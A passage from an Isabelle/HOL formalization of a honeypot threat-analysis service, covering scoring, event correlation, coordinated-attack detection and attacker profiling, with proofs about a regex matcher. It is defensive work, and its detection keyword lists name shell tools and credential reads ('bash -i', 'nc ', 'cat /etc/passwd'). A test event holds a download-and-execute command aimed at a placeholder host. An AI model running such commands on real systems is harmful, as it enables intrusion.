  "py_int x = (if 0 \<le> x then \<lfloor>x\<rfloor> else \<lceil>x\<rceil>)"

definition calculate_score :: "(string \<Rightarrow> datetime option) \<Rightarrow> event \<Rightarrow> score_result" where
  "calculate_score fromisoformat e =
     (let atype = identify_attack_type e;
          ats = (case map_of ATTACK_TYPE_SCORES atype of None \<Rightarrow> 10 | Some v \<Rightarrow> v);
          soph = assess_sophistication e;
          mult = (if is_successful_attack e then 3 / 2 else 1);
          rep = assess_ip_reputation e;
          geo = (case geo_country_code e of
                   None \<Rightarrow> 0
                 | Some cc \<Rightarrow> (case map_of HIGH_RISK_COUNTRIES cc of None \<Rightarrow> 0 | Some v \<Rightarrow> v));
          temporal = assess_temporal_patterns fromisoformat e;
          base = of_int (ats + soph) * mult;
          bonus = rep + geo + temporal;
          final = min 100 (py_int (base + of_int bonus))
      in \<lparr>threat_score = final,
          severity = score_to_severity final,
          attack_type = atype,
          breakdown = \<lparr>base_score = 0, attack_type_score = ats, sophistication_score = soph,
                        success_multiplier = mult, ip_reputation_score = rep,
                        geo_risk_score = geo, temporal_score = temporal, final_score = final\<rparr>,
          recommendations = generate_recommendations final atype\<rparr>)"

text \<open>
  The formula of the specification, in its words: the sum is rounded (Python's \<^verbatim>\<open>round\<close>
  takes a half to the even neighbour) and clamped to \<open>0..100\<close>.
\<close>

definition py_round :: "rat \<Rightarrow> int" where
  "py_round x =
     (let f = \<lfloor>x\<rfloor>; d = x - of_int f in
      if d < 1 / 2 then f
      else if d > 1 / 2 then f + 1
      else if even f then f else f + 1)"

definition clamp :: "int \<Rightarrow> int \<Rightarrow> int \<Rightarrow> int" where
  "clamp lo hi x = max lo (min hi x)"

definition score_sum :: "score_breakdown \<Rightarrow> rat" where
  "score_sum b =
     of_int (attack_type_score b + sophistication_score b) * success_multiplier b
     + of_int (ip_reputation_score b) + of_int (geo_risk_score b) + of_int (temporal_score b)"

definition spec_final_score :: "score_breakdown \<Rightarrow> int" where
  "spec_final_score b = clamp 0 100 (py_round (score_sum b))"

text \<open>The order of the severity labels, to state that the label grows with the score.\<close>

definition severity_rank :: "string \<Rightarrow> nat" where
  "severity_rank s =
     (if s = ''low'' then 0 else if s = ''medium'' then 1 else if s = ''high'' then 2 else 3)"

section \<open>Correlation engine (\<^verbatim>\<open>services/correlation_engine.py\<close>)\<close>

text \<open>
  The engine reads the event store and the clock. Both are parameters: \<open>es_search\<close> is
  \<^verbatim>\<open>self.es.search\<close> followed by the extraction of the \<^verbatim>\<open>_source\<close> documents of the hits
  (\<open>Inl\<close> when either raises), \<open>es_aggregate\<close> is the search of
  \<^verbatim>\<open>detect_coordinated_attacks\<close> followed by the extraction of the buckets of the terms
  aggregation (one bucket for each distinct source address), times are seconds on the
  time line, and \<^verbatim>\<open>isoformat\<close> and \<^verbatim>\<open>str\<close> of a \<^verbatim>\<open>timedelta\<close> are the library's.
\<close>

record ip_query =
  q_index :: string
  q_term_field :: string
  q_ip :: string
  q_gte :: string
  q_lte :: string
  q_size :: nat

record agg_query =
  a_index :: string
  a_gte :: string
  a_lte :: string
  a_terms_field :: string
  a_terms_size :: nat

record bucket =
  bucket_key :: string
  doc_count :: nat

record env =
  es_search :: "ip_query \<Rightarrow> py_error + event list"
  es_aggregate :: "agg_query \<Rightarrow> py_error + bucket list"
  isoformat :: "rat \<Rightarrow> string"
  str_timedelta :: "rat \<Rightarrow> string"
  fromisoformat :: "string \<Rightarrow> datetime option"

record summary =
  total_events :: nat
  cowrie_events :: nat
  dionaea_events :: nat
  snort_alerts :: nat
  first_seen :: "string option"
  last_seen :: "string option"
  targeted_services :: "string set"
  attack_phases :: "string list"

record source_events =
  cowrie :: "event list"
  dionaea :: "event list"
  snort :: "event list"

record correlation =
  ip_address :: string
  time_range_start :: string
  time_range_end :: string
  summary :: summary
  events :: source_events

subsection \<open>The three queries\<close>

text \<open>Each query catches every exception of the store, prints it and returns the empty list.\<close>

definition cowrie_query :: "env \<Rightarrow> string \<Rightarrow> rat \<Rightarrow> rat \<Rightarrow> ip_query" where
  "cowrie_query env ip start_time end_time =
     \<lparr>q_index = ''cowrie-*'', q_term_field = ''src_ip.keyword'', q_ip = ip,
      q_gte = isoformat env start_time, q_lte = isoformat env end_time, q_size = 1000\<rparr>"

definition dionaea_query :: "env \<Rightarrow> string \<Rightarrow> rat \<Rightarrow> rat \<Rightarrow> ip_query" where
  "dionaea_query env ip start_time end_time =
     \<lparr>q_index = ''dionaea-*'', q_term_field = ''remote_host.keyword'', q_ip = ip,
      q_gte = isoformat env start_time, q_lte = isoformat env end_time, q_size = 1000\<rparr>"

definition snort_query :: "env \<Rightarrow> string \<Rightarrow> rat \<Rightarrow> rat \<Rightarrow> ip_query" where
  "snort_query env ip start_time end_time =
     \<lparr>q_index = ''snort-*'', q_term_field = ''src_ip.keyword'', q_ip = ip,
      q_gte = isoformat env start_time, q_lte = isoformat env end_time, q_size = 1000\<rparr>"

definition query_cowrie_by_ip :: "env \<Rightarrow> string \<Rightarrow> rat \<Rightarrow> rat \<Rightarrow> event list" where
  "query_cowrie_by_ip env ip start_time end_time =
     (case es_search env (cowrie_query env ip start_time end_time) of
        Inl err \<Rightarrow> []
      | Inr hits \<Rightarrow> hits)"

definition query_dionaea_by_ip :: "env \<Rightarrow> string \<Rightarrow> rat \<Rightarrow> rat \<Rightarrow> event list" where
  "query_dionaea_by_ip env ip start_time end_time =
     (case es_search env (dionaea_query env ip start_time end_time) of
        Inl err \<Rightarrow> []
      | Inr hits \<Rightarrow> hits)"

definition query_snort_by_ip :: "env \<Rightarrow> string \<Rightarrow> rat \<Rightarrow> rat \<Rightarrow> event list" where
  "query_snort_by_ip env ip start_time end_time =
     (case es_search env (snort_query env ip start_time end_time) of
        Inl err \<Rightarrow> []
      | Inr hits \<Rightarrow> hits)"

subsection \<open>\<^verbatim>\<open>_reconstruct_attack_phases\<close>\<close>

definition add_phase :: "string \<Rightarrow> string list \<Rightarrow> string list" where
  "add_phase ph phases = (if ph \<notin> set phases then phases @ [ph] else phases)"

definition phase_step :: "event \<Rightarrow> string list \<Rightarrow> string list" where
  "phase_step e phases =
     (let command = lower (get_str (input e));
          p1 = (if eventid e = Some ''cowrie.client.version''
                then add_phase ''Reconnaissance'' phases else phases);
          p2 = (if eventid e = Some ''cowrie.login.success''
                then add_phase ''Exploitation'' p1 else p1);
          p3 = (if eventid e = Some ''cowrie.session.file_download'' \<or>
                   eventid e = Some ''dionaea.download''
                then add_phase ''Installation'' p2 else p2);
          p4 = (if eventid e = Some ''cowrie.command.input'' \<and>
                   list_ex (\<lambda>cmd. py_in cmd command) [''wget'', ''curl'', ''nc '', ''bash -i'']
                then add_phase ''Command & Control'' p3 else p3);
          p5 = (if eventid e = Some ''cowrie.command.input'' \<and>
                   list_ex (\<lambda>cmd. py_in cmd command) [''cat /etc/passwd'', ''uname'', ''whoami'']
                then add_phase ''Actions on Objectives'' p4 else p4)
      in p5)"

definition reconstruct_attack_phases :: "event list \<Rightarrow> string list" where
  "reconstruct_attack_phases evs = fold phase_step (sort_key timestamp_key evs) []"

subsection \<open>\<^verbatim>\<open>correlate_by_ip\<close>\<close>

text \<open>The values of a key that are present and true: non-empty strings.\<close>

definition truthy :: "string option \<Rightarrow> string list" where
  "truthy v = (case v of None \<Rightarrow> [] | Some s \<Rightarrow> if s \<noteq> [] then [s] else [])"

fun py_min :: "string list \<Rightarrow> string option" where
  "py_min [] = None"
| "py_min (x # xs) = Some (fold min xs x)"

fun py_max :: "string list \<Rightarrow> string option" where
  "py_max [] = None"
| "py_max (x # xs) = Some (fold max xs x)"

text \<open>The default range is the last 24 hours before the reading of the clock.\<close>

definition effective_range :: "rat \<Rightarrow> (rat \<times> rat) option \<Rightarrow> rat \<times> rat" where
  "effective_range utcnow time_range =
     (case time_range of None \<Rightarrow> (utcnow - 24 * 3600, utcnow) | Some r \<Rightarrow> r)"

definition correlate_by_ip :: "env \<Rightarrow> rat \<Rightarrow> string \<Rightarrow> (rat \<times> rat) option \<Rightarrow> correlation" where
  "correlate_by_ip env utcnow ip time_range =
     (let start_time = fst (effective_range utcnow time_range);
          end_time = snd (effective_range utcnow time_range);
          cowrie_evs = query_cowrie_by_ip env ip start_time end_time;
          dionaea_evs = query_dionaea_by_ip env ip start_time end_time;
          snort_evs = query_snort_by_ip env ip start_time end_time;
          all_events = cowrie_evs @ dionaea_evs @ snort_evs;
          timestamps = concat (map (\<lambda>e. truthy (timestamp e)) all_events);
          services = set (concat (map (\<lambda>e. truthy (protocol e)) cowrie_evs))
                     \<union> set (concat (map (\<lambda>e. truthy (connection_type e)) dionaea_evs))
      in \<lparr>ip_address = ip,
          time_range_start = isoformat env start_time,
          time_range_end = isoformat env end_time,
          summary = \<lparr>total_events = length cowrie_evs + length dionaea_evs + length snort_evs,
                      cowrie_events = length cowrie_evs,
                      dionaea_events = length dionaea_evs,
                      snort_alerts = length snort_evs,
                      first_seen = py_min timestamps,
                      last_seen = py_max timestamps,
                      targeted_services = services,
                      attack_phases = reconstruct_attack_phases all_events\<rparr>,
          events = \<lparr>cowrie = cowrie_evs, dionaea = dionaea_evs, snort = snort_evs\<rparr>\<rparr>)"

subsection \<open>\<^verbatim>\<open>detect_coordinated_attacks\<close>\<close>

record finding =
  f_pattern :: string
  f_confidence :: string
  f_ip_count :: nat
  f_time_window :: string
  f_description :: string

text \<open>\<^verbatim>\<open>str(n)\<close> of a natural number, for the f-string of the description.\<close>

definition digit_char :: "nat \<Rightarrow> char" where
  "digit_char d = ''0123456789'' ! (d mod 10)"

fun str_nat :: "nat \<Rightarrow> string" where
  "str_nat n = (if n < 10 then [digit_char n] else str_nat (n div 10) @ [digit_char (n mod 10)])"

text \<open>The window is 15 minutes unless the caller gives one.\<close>

definition window_of :: "rat option \<Rightarrow> rat" where
  "window_of time_window_arg = (case time_window_arg of None \<Rightarrow> 15 * 60 | Some w \<Rightarrow> w)"

definition coordination_query :: "env \<Rightarrow> rat \<Rightarrow> rat option \<Rightarrow> agg_query" where
  "coordination_query env utcnow time_window_arg =
     (let end_time = utcnow;
          start_time = end_time - window_of time_window_arg
      in \<lparr>a_index = ''cowrie-*,dionaea-*,snort-*'', a_gte = isoformat env start_time,
          a_lte = isoformat env end_time, a_terms_field = ''src_ip.keyword'',
          a_terms_size = 100\<rparr>)"

definition detect_coordinated_attacks :: "env \<Rightarrow> rat \<Rightarrow> rat option \<Rightarrow> py_error + finding list" where
  "detect_coordinated_attacks env utcnow time_window_arg =
     (let time_window = window_of time_window_arg
      in case es_aggregate env (coordination_query env utcnow time_window_arg) of
           Inl err \<Rightarrow> Inl err
         | Inr ip_buckets \<Rightarrow>
             Inr (if length ip_buckets > 5 then
                    [\<lparr>f_pattern = ''multiple_sources'', f_confidence = ''medium'',
                      f_ip_count = length ip_buckets,
                      f_time_window = str_timedelta env time_window,
                      f_description = str_nat (length ip_buckets) @ '' different IPs attacking in ''
                                      @ str_timedelta env time_window\<rparr>]
                  else []))"

subsection \<open>\<^verbatim>\<open>build_attacker_profile\<close>\<close>

record intelligence_rec =
  is_persistent :: bool
  is_automated :: bool
  sophistication_level :: string
  likely_motive :: string

record behavior_rec =
  beh_targeted_services :: "string set"
  attack_frequency :: "string option"
  preferred_tools :: "string list"
  evasion_techniques :: "string list"

record risk_rec =
  threat_level :: string
  recommended_action :: string

record profile =
  prof_ip_address :: string
  intelligence :: intelligence_rec
  behavior :: behavior_rec
  risk_assessment :: risk_rec

text \<open>
  The timing analysis is done in floats. A float is the rational number it stands for
  (the numbers met here, seconds and their squares, are far from overflow, so no infinity
  and no NaN arises), and comparing two floats compares these numbers. The operations
  that round are parameters of the analysis: \<open>fl_quotient\<close> is the float of an exact
  quotient of two integers (\<^verbatim>\<open>timedelta.total_seconds()\<close> divides the microseconds by
  \<open>10^6\<close>), \<open>fl_sum\<close> is the builtin \<^verbatim>\<open>sum\<close> of a list of floats, \<open>fl_sub\<close> is \<^verbatim>\<open>x - y\<close>,
  \<open>fl_square\<close> is \<^verbatim>\<open>x ** 2\<close>, and \<open>fl_div\<close> is \<^verbatim>\<open>x / n\<close> for a float and an integer.
\<close>

record float_ops =
  fl_quotient :: "rat \<Rightarrow> rat"
  fl_sum :: "rat list \<Rightarrow> rat"
  fl_sub :: "rat \<Rightarrow> rat \<Rightarrow> rat"
  fl_square :: "rat \<Rightarrow> rat"
  fl_div :: "rat \<Rightarrow> rat \<Rightarrow> rat"

text \<open>
  The arithmetic of IEEE 754 doubles, as CPython runs it where \<^verbatim>\<open>sum\<close> adds from left to
  right (up to version 3.11; from 3.12 on the builtin \<^verbatim>\<open>sum\<close> of floats carries a
  compensation term, which is another value of the parameter \<open>fl_sum\<close>): every operation
  gives the double nearest to the exact result, a tie going to the even mantissa.
  \<open>exponent_of x\<close> is the \<open>e\<close> with \<open>2^e \<le> |x| < 2^(e+1)\<close>; a double has a mantissa of
  53 bits.
\<close>

definition pow2 :: "int \<Rightarrow> rat" where
  "pow2 e = (if 0 \<le> e then 2 ^ nat e else 1 / 2 ^ nat (- e))"

definition exponent_of :: "rat \<Rightarrow> int" where
  "exponent_of x =
     (let k = bitlen (fst (quotient_of \<bar>x\<bar>)) - bitlen (snd (quotient_of \<bar>x\<bar>))
      in if pow2 k \<le> \<bar>x\<bar> then k else k - 1)"

definition round_double :: "rat \<Rightarrow> rat" where
  "round_double x =
     (if x = 0 then 0
      else (let e = exponent_of x - 52 in of_int (py_round (x / pow2 e)) * pow2 e))"

definition ieee_double :: float_ops where
  "ieee_double =
     \<lparr>fl_quotient = round_double,
      fl_sum = (\<lambda>xs. foldl (\<lambda>s x. round_double (s + x)) 0 xs),
      fl_sub = (\<lambda>x y. round_double (x - y)),
      fl_square = (\<lambda>x. round_double (x * x)),
      fl_div = (\<lambda>x n. round_double (x / n))\<rparr>"

text \<open>
  The loop over \<^verbatim>\<open>range(1, len(timestamps))\<close>: each step parses the two neighbours (the
  later one first), subtracts them and takes the seconds of the difference as a float.
  Parsing raises \<^verbatim>\<open>ValueError\<close>; subtracting a value with a time zone from one without
  raises \<^verbatim>\<open>TypeError\<close>. Nothing catches either.
\<close>

fun intervals_of ::
  "float_ops \<Rightarrow> (string \<Rightarrow> datetime option) \<Rightarrow> string list \<Rightarrow> py_error + rat list" where
  "intervals_of fa parse (a # b # rest) =
     (case parse (replace_Z b) of
        None \<Rightarrow> Inl ValueError
      | Some db \<Rightarrow>
          (case parse (replace_Z a) of
             None \<Rightarrow> Inl ValueError
           | Some da \<Rightarrow>
               if tz_aware da \<noteq> tz_aware db then Inl TypeError
               else (case intervals_of fa parse (b # rest) of
                       Inl err \<Rightarrow> Inl err
                     | Inr ds \<Rightarrow> Inr (fl_quotient fa (instant db - instant da) # ds))))"
| "intervals_of fa parse ts = Inr []"

definition variance :: "float_ops \<Rightarrow> rat list \<Rightarrow> rat" where
  "variance fa intervals =
     (let avg_interval = fl_div fa (fl_sum fa intervals) (of_nat (length intervals))
      in fl_div fa (fl_sum fa (map (\<lambda>x. fl_square fa (fl_sub fa x avg_interval)) intervals))
           (of_nat (length intervals)))"

definition analyze_automation ::
  "float_ops \<Rightarrow> (string \<Rightarrow> datetime option) \<Rightarrow> event list \<Rightarrow> py_error + bool" where
  "analyze_automation fa parse cowrie_evs =
     (if length cowrie_evs > 5 then
        (let timestamps = concat (map (\<lambda>e. truthy (timestamp e)) cowrie_evs) in
         if length timestamps > 1 then
           (case intervals_of fa parse timestamps of
              Inl err \<Rightarrow> Inl err
            | Inr intervals \<Rightarrow> Inr (intervals \<noteq> [] \<and> variance fa intervals < 1))
         else Inr False)
      else Inr False)"

definition build_attacker_profile ::
  "float_ops \<Rightarrow> env \<Rightarrow> rat \<Rightarrow> rat \<Rightarrow> string \<Rightarrow> py_error + profile" where
  "build_attacker_profile fa env utcnow1 utcnow2 ip =
     (let correlation = correlate_by_ip env utcnow2 ip (Some (utcnow1 - 30 * 86400, utcnow2));
          persistent = (total_events (summary correlation) > 10)
      in case analyze_automation fa (fromisoformat env) (cowrie (events correlation)) of
           Inl err \<Rightarrow> Inl err
         | Inr automated \<Rightarrow>
             Inr \<lparr>prof_ip_address = ip,
                  intelligence = \<lparr>is_persistent = persistent, is_automated = automated,
                                   sophistication_level = ''low'', likely_motive = ''unknown''\<rparr>,
                  behavior = \<lparr>beh_targeted_services = targeted_services (summary correlation),
                               attack_frequency = None, preferred_tools = [],
                               evasion_techniques = []\<rparr>,
                  risk_assessment =
                    (if persistent \<and> automated then
                       \<lparr>threat_level = ''high'', recommended_action = ''block''\<rparr>
                     else if persistent then
                       \<lparr>threat_level = ''medium'', recommended_action = ''monitor_closely''\<rparr>
                     else \<lparr>threat_level = ''low'', recommended_action = ''monitor''\<rparr>)\<rparr>)"

section \<open>Predicates and inputs used in the statements\<close>

text \<open>
  What a recorded detail owes to the catalog: its names are those of a catalog entry, its
  tactic has a name in \<^verbatim>\<open>TACTICS\<close>, and its pattern is the first of the entry's patterns
  found in the text.
\<close>

definition detail_ok :: "(string \<times> technique_data) list \<Rightarrow> string \<Rightarrow> technique_detail \<Rightarrow> bool" where
  "detail_ok cat blob d \<longleftrightarrow>
     (\<exists>td. (technique_id d, td) \<in> set cat \<and> technique_name d = tech_name td \<and>
           tactic_id d = tech_tactic td \<and>
           map_of TACTICS (tactic_id d) = Some (tactic_name d) \<and>
           first_matching (tech_patterns td) blob = Some (matched_pattern d))"

definition mapped_inv :: "(string \<times> technique_data) list \<Rightarrow> string \<Rightarrow> mapped \<Rightarrow> bool" where
  "mapped_inv cat blob m \<longleftrightarrow>
     map technique_id (technique_details m) = techniques m \<and>
     set (tactics m) = tactic_id ` set (technique_details m) \<and>
     distinct (techniques m) \<and> distinct (tactics m) \<and>
     list_all (detail_ok cat blob) (technique_details m)"

text \<open>The sort key of a chain step: its time stamp, empty when the event had none.\<close>

definition step_key :: "chain_step \<Rightarrow> string" where
  "step_key s = get_str (step_timestamp s)"

text \<open>
  What holds of the chain and the visited set between two steps of the loops of
  \<^verbatim>\<open>get_attack_chain\<close>: the visited set is the set of the tactics of the chain, no tactic
  stands twice, every tactic is one of \<^verbatim>\<open>TACTICS\<close>, and the steps are in the order of their
  time stamps.
\<close>

definition chain_inv :: "chain_step list \<times> string set \<Rightarrow> bool" where
  "chain_inv st \<longleftrightarrow>
     set (map step_tactic_id (fst st)) = snd st \<and>
     distinct (map step_tactic_id (fst st)) \<and>
     set (map step_tactic_id (fst st)) \<subseteq> set (map fst TACTICS) \<and>
     sorted (map step_key (fst st))"

text \<open>A parser that knows the time stamps of a table and rejects every other string.\<close>

definition table_parser :: "(string \<times> datetime) list \<Rightarrow> string \<Rightarrow> datetime option" where
  "table_parser tbl s = map_of tbl s"

text \<open>A store that answers the three address queries and the aggregation with fixed results.\<close>

definition fixed_store ::
  "(py_error + event list) \<Rightarrow> (py_error + event list) \<Rightarrow> (py_error + event list) \<Rightarrow>
   (py_error + bucket list) \<Rightarrow> (string \<times> datetime) list \<Rightarrow> env" where
  "fixed_store rc rd rs ra tbl =
     \<lparr>es_search = (\<lambda>q. if q_index q = ''cowrie-*'' then rc
                        else if q_index q = ''dionaea-*'' then rd else rs),
      es_aggregate = (\<lambda>q. ra),
      isoformat = (\<lambda>t. []),
      str_timedelta = (\<lambda>d. []),
      fromisoformat = table_parser tbl\<rparr>"

text \<open>The event of the scoring example, and a plain command event.\<close>

definition login_success_event :: event where
  "login_success_event =
     empty_event\<lparr>eventid := Some ''cowrie.login.success'', input := Some [], in_blocklist := True\<rparr>"

definition ls_command_event :: event where
  "ls_command_event = empty_event\<lparr>eventid := Some ''cowrie.command.input'', input := Some ''ls''\<rparr>"

text \<open>The event of the mapping example, alone and as a command event of the shell honeypot.\<close>

definition wget_input :: string where
  "wget_input = ''wget http://x/y && chmod +x y && ./y''"

definition wget_event :: event where
  "wget_event = empty_event\<lparr>input := Some wget_input\<rparr>"

definition wget_command_event :: event where
  "wget_command_event = wget_event\<lparr>eventid := Some ''cowrie.command.input''\<rparr>"

text \<open>
  The automation flag in the words of the specification: at least two time-stamped events
  of the shell honeypot, and a variance of their time differences below 1.
\<close>

definition spec_is_automated ::
  "float_ops \<Rightarrow> (string \<Rightarrow> datetime option) \<Rightarrow> event list \<Rightarrow> bool" where
  "spec_is_automated fa parse cowrie_evs =
     (let ts = concat (map (\<lambda>e. truthy (timestamp e)) cowrie_evs) in
      length ts \<ge> 2 \<and>
      (case intervals_of fa parse ts of Inl err \<Rightarrow> False | Inr ds \<Rightarrow> variance fa ds < 1))"

text \<open>
  Twelve events of the shell honeypot whose eleven time differences have the mean 2 and
  the variance 0.2, with the table that parses their time stamps; and six buckets of an
  aggregation.
\<close>

definition stamp :: "string \<Rightarrow> rat \<Rightarrow> string \<times> datetime" where
  "stamp s i = (s, \<lparr>hour = 0, tz_aware = False, instant = i\<rparr>)"

definition shell_event_at :: "string \<Rightarrow> event" where
  "shell_event_at s = empty_event\<lparr>eventid := Some ''cowrie.command.input'', timestamp := Some s\<rparr>"

definition twelve_stamps :: "(string \<times> datetime) list" where
  "twelve_stamps =
     [stamp ''2024-01-01T00:00:00'' 0, stamp ''2024-01-01T00:00:03'' 3,
      stamp ''2024-01-01T00:00:04'' 4, stamp ''2024-01-01T00:00:06.300000'' (63 / 10),
      stamp ''2024-01-01T00:00:08'' 8, stamp ''2024-01-01T00:00:10.100000'' (101 / 10),
      stamp ''2024-01-01T00:00:12'' 12, stamp ''2024-01-01T00:00:14'' 14,
      stamp ''2024-01-01T00:00:16'' 16, stamp ''2024-01-01T00:00:18'' 18,
      stamp ''2024-01-01T00:00:20'' 20, stamp ''2024-01-01T00:00:22'' 22]"

definition twelve_events :: "event list" where
  "twelve_events = map (\<lambda>p. shell_event_at (fst p)) twelve_stamps"

definition two_events :: "event list" where
  "two_events = take 2 twelve_events"

text \<open>
  Seven events of the shell honeypot whose six time differences are 0.3 and 2.3 seconds in
  turn: their variance is 1 in exact arithmetic and just below 1 in doubles.
\<close>

definition seven_stamps :: "(string \<times> datetime) list" where
  "seven_stamps =
     [stamp ''2024-01-01T00:00:00'' 0, stamp ''2024-01-01T00:00:00.300000'' (3 / 10),
      stamp ''2024-01-01T00:00:02.600000'' (26 / 10), stamp ''2024-01-01T00:00:02.900000'' (29 / 10),
      stamp ''2024-01-01T00:00:05.200000'' (52 / 10), stamp ''2024-01-01T00:00:05.500000'' (55 / 10),
      stamp ''2024-01-01T00:00:07.800000'' (78 / 10)]"

definition seven_events :: "event list" where
  "seven_events = map (\<lambda>p. shell_event_at (fst p)) seven_stamps"

definition six_buckets :: "bucket list" where
  "six_buckets =
     [\<lparr>bucket_key = ''198.51.100.1'', doc_count = 3\<rparr>, \<lparr>bucket_key = ''198.51.100.2'', doc_count = 1\<rparr>,
      \<lparr>bucket_key = ''198.51.100.3'', doc_count = 7\<rparr>, \<lparr>bucket_key = ''198.51.100.4'', doc_count = 2\<rparr>,
      \<lparr>bucket_key = ''198.51.100.5'', doc_count = 1\<rparr>, \<lparr>bucket_key = ''198.51.100.6'', doc_count = 4\<rparr>]"

text \<open>The mapping example with a time stamp, for the chain.\<close>

definition stamped_wget_event :: event where
  "stamped_wget_event = wget_event\<lparr>timestamp := Some ''2024-01-01T00:00:03''\<rparr>"

section \<open>Properties\<close>

subsection \<open>The matcher finds the words of a pattern\<close>

lemma star_rests_iff:
  "t \<in> set (star_rests p s) \<longleftrightarrow> (\<exists>w. s = w @ t \<and> (\<forall>c \<in> set w. p c))"
proof (induction s)
  case Nil
  then show ?case by auto
next
  case (Cons c cs)
  show ?case
  proof
    assume "t \<in> set (star_rests p (c # cs))"
    then have "t = c # cs \<or> (p c \<and> t \<in> set (star_rests p cs))"
      by (auto split: if_splits)
    then show "\<exists>w. c # cs = w @ t \<and> (\<forall>c \<in> set w. p c)"
    proof
      assume "t = c # cs"
      then have "c # cs = [] @ t \<and> (\<forall>c \<in> set []. p c)" by simp
      then show ?thesis by blast
    next
      assume a: "p c \<and> t \<in> set (star_rests p cs)"
      with Cons.IH obtain w where "cs = w @ t" "\<forall>c \<in> set w. p c" by blast
      with a have "c # cs = (c # w) @ t \<and> (\<forall>x \<in> set (c # w). p x)" by simp
      then show ?thesis by blast
    qed
  next
    assume "\<exists>w. c # cs = w @ t \<and> (\<forall>c \<in> set w. p c)"
    then obtain w where w: "c # cs = w @ t" "\<forall>c \<in> set w. p c" by blast
    show "t \<in> set (star_rests p (c # cs))"
    proof (cases w)
      case Nil
      with w have "t = c # cs" by simp
      then show ?thesis by simp
    next
      case (Cons x w')
      with w have "x = c" "cs = w' @ t" "p c" "\<forall>c \<in> set w'. p c" by auto
      with Cons.IH show ?thesis by auto
    qed
  qed
qed

lemma rests_iff: "t \<in> set (rests ic r s) \<longleftrightarrow> (\<exists>w. s = w @ t \<and> lang ic r w)"
proof (induction r arbitrary: s t)
  case Eps
  show ?case by auto
next
  case (One k)
  show ?case
  proof (cases s)
    case Nil
    then show ?thesis by (auto split: list.splits)
  next
    case (Cons c cs)
    show ?thesis
    proof
      assume "t \<in> set (rests ic (One k) s)"
      with Cons have "cmatch ic k c" "t = cs" by (auto split: if_splits)
      with Cons have "s = [c] @ t \<and> lang ic (One k) [c]" by simp
      then show "\<exists>w. s = w @ t \<and> lang ic (One k) w" by blast
    next
      assume "\<exists>w. s = w @ t \<and> lang ic (One k) w"
      then obtain w where w: "s = w @ t" "lang ic (One k) w" by blast
      from w(2) obtain x where "w = [x]" "cmatch ic k x"
        by (auto split: list.splits)
      with w Cons show "t \<in> set (rests ic (One k) s)" by simp
    qed
  qed
next
  case (Star k)
  show ?case by (simp add: star_rests_iff)
next
  case (Plus k)
  show ?case
  proof (cases s)
    case Nil
    then show ?thesis by auto
  next
    case (Cons c cs)
    show ?thesis
    proof
      assume "t \<in> set (rests ic (Plus k) s)"
      with Cons have c: "cmatch ic k c" and "t \<in> set (star_rests (cmatch ic k) cs)"
        by (auto split: if_splits)
      then obtain w where "cs = w @ t" "\<forall>x \<in> set w. cmatch ic k x"
        by (auto simp: star_rests_iff)
      with c Cons have "s = (c # w) @ t \<and> lang ic (Plus k) (c # w)" by simp
      then show "\<exists>w. s = w @ t \<and> lang ic (Plus k) w" by blast
    next
      assume "\<exists>w. s = w @ t \<and> lang ic (Plus k) w"
      then obtain w where w: "s = w @ t" "w \<noteq> []" "\<forall>x \<in> set w. cmatch ic k x" by auto
      then obtain x w' where "w = x # w'" by (cases w) auto
      with w Cons have "x = c" "cs = w' @ t" "cmatch ic k c" "\<forall>x \<in> set w'. cmatch ic k x"
        by auto
      with Cons show "t \<in> set (rests ic (Plus k) s)"
        by (auto simp: star_rests_iff)
    qed
  qed
next
  case (Seq a b)
  show ?case
  proof
    assume "t \<in> set (rests ic (Seq a b) s)"
    then obtain u where u: "u \<in> set (rests ic a s)" "t \<in> set (rests ic b u)" by auto
    from u(1) Seq.IH(1) obtain w1 where w1: "s = w1 @ u" "lang ic a w1" by blast
    from u(2) Seq.IH(2) obtain w2 where w2: "u = w2 @ t" "lang ic b w2" by blast
    from w1 w2 have "s = (w1 @ w2) @ t" by simp
    moreover from w1 w2 have "lang ic (Seq a b) (w1 @ w2)"
      by (auto intro!: exI[of _ "length w1"])
    ultimately show "\<exists>w. s = w @ t \<and> lang ic (Seq a b) w" by blast
  next
    assume "\<exists>w. s = w @ t \<and> lang ic (Seq a b) w"
    then obtain w i where w: "s = w @ t" "i \<le> length w" "lang ic a (take i w)" "lang ic b (drop i w)"
      by auto
    have "s = take i w @ (drop i w @ t)" using w(1) by simp
    with w(3) Seq.IH(1) have 1: "drop i w @ t \<in> set (rests ic a s)" by blast
    from w(4) Seq.IH(2) have 2: "t \<in> set (rests ic b (drop i w @ t))" by blast
    from 1 2 show "t \<in> set (rests ic (Seq a b) s)" by auto
  qed
next
  case (Alt a b)
  then show ?case by auto
qed

lemma re_search_drop: "re_search ic r s \<longleftrightarrow> (\<exists>i \<le> length s. rests ic r (drop i s) \<noteq> [])"
proof (induction s)
  case Nil
  then show ?case by simp
next
  case (Cons c cs)
  show ?case
  proof
    assume "re_search ic r (c # cs)"
    then have "rests ic r (c # cs) \<noteq> [] \<or> re_search ic r cs" by simp
    then show "\<exists>i \<le> length (c # cs). rests ic r (drop i (c # cs)) \<noteq> []"
    proof
      assume "rests ic r (c # cs) \<noteq> []"
      then have "0 \<le> length (c # cs) \<and> rests ic r (drop 0 (c # cs)) \<noteq> []" by simp
      then show ?thesis by blast
    next
      assume "re_search ic r cs"
      with Cons.IH obtain i where "i \<le> length cs" "rests ic r (drop i cs) \<noteq> []" by blast
      then have "Suc i \<le> length (c # cs) \<and> rests ic r (drop (Suc i) (c # cs)) \<noteq> []" by simp
      then show ?thesis by blast
    qed
  next
    assume "\<exists>i \<le> length (c # cs). rests ic r (drop i (c # cs)) \<noteq> []"
    then obtain i where i: "i \<le> length (c # cs)" "rests ic r (drop i (c # cs)) \<noteq> []" by blast
    show "re_search ic r (c # cs)"
    proof (cases i)
      case 0
      with i show ?thesis by simp
    next
      case (Suc j)
      with i have "j \<le> length cs" "rests ic r (drop j cs) \<noteq> []" by simp_all
      with Cons.IH show ?thesis by auto
    qed
  qed
qed

text \<open>\<^verbatim>\<open>re.search\<close> succeeds exactly on the texts that hold a word of the pattern.\<close>

lemma re_search_iff:
  "re_search ic r s \<longleftrightarrow> (\<exists>u w v. s = u @ w @ v \<and> lang ic r w)"
proof
  assume "re_search ic r s"
  then obtain i where i: "i \<le> length s" "rests ic r (drop i s) \<noteq> []"
    by (auto simp: re_search_drop)
  then obtain t where "t \<in> set (rests ic r (drop i s))" by (cases "rests ic r (drop i s)") auto
  then obtain w where w: "drop i s = w @ t" "lang ic r w" by (auto simp: rests_iff)
  have "s = take i s @ drop i s" by simp
